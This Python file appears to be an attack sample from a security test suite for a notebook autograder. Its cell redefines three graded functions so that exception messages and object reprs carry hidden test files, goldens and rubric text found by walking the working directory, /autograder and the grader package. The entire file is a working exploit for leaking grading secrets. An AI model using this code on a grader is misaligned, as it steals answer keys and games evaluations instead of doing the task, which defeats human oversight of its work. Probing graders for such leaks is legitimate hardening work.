# ruff: noqa
# attack-base: template
# attack-place: end
"""Exfiltrate hidden tests (or goldens) through the visible feedback of a public test.

The student template plus this cell, which redefines three graded functions: one raises an
exception whose message is the text of every grader file it can read, the others return objects
whose repr, float() and array conversion do the same. Otter copies its tests, hidden ones
included, next to the notebook (`tests/*.py`) and shows a failing public test's exception
message in the visible "Public Tests" box. For ours the same code looks for our goldens and
rubric wherever an attacker would: the working directory and its parents, /autograder, and the
folder of any `autograder` package it can import. Every file found is printed as
`LEAK[path]: text`.
"""


def _harvest():
    import importlib.util
    import os

    roots = [os.getcwd(), os.path.dirname(os.getcwd()), "/autograder"]
    try:
        spec = importlib.util.find_spec("autograder")
        if spec and spec.origin:
            package = os.path.dirname(spec.origin)
            roots += [package, os.path.dirname(package)]
    except (ImportError, ValueError):
        pass
    wanted = ("goldens.json", "rubric.toml", "goldens.npz")
    found, seen, visited = [], set(), 0
    for root in roots:
        for folder, dirs, files in os.walk(root):
            visited += 1
            if visited > 3000 or folder.count(os.sep) - root.count(os.sep) >= 3:
                dirs[:] = []
            dirs[:] = [d for d in dirs if not d.startswith(".") and d != "site-packages"]
            for name in files:
                is_test = os.path.basename(folder) == "tests" and name.endswith(".py")
                if not (is_test or name in wanted):
                    continue
                path = os.path.realpath(os.path.join(folder, name))
                if path in seen:
                    continue
                seen.add(path)
                try:
                    with open(path, "rb") as handle:
                        text = handle.read(1500).decode("utf-8", "replace")
                except OSError as error:
                    text = f"(unreadable: {error.__class__.__name__})"
                found.append(f"LEAK[{path}]: {text}")
    return "\n".join(found) or "LEAK-NOTHING-FOUND"


class _Leak:
    def __repr__(self):
        return _harvest()

    __str__ = __repr__

    def __eq__(self, other):
        return False

    __hash__ = object.__hash__

    def __float__(self):
        raise ValueError(_harvest())

    def __int__(self):
        raise ValueError(_harvest())

    def __array__(self, *args, **kwargs):
        raise ValueError(_harvest())

    def __len__(self):
        raise ValueError(_harvest())

    def __iter__(self):
        raise ValueError(_harvest())


def find_optimal_params(params, losses):
    raise ValueError(_harvest())


def fit_linear_log(x, y):
    return _Leak(), _Leak()


def calc_parameters_decoder(vocab_size, hidden_size, num_layers, num_heads):
    return _Leak()
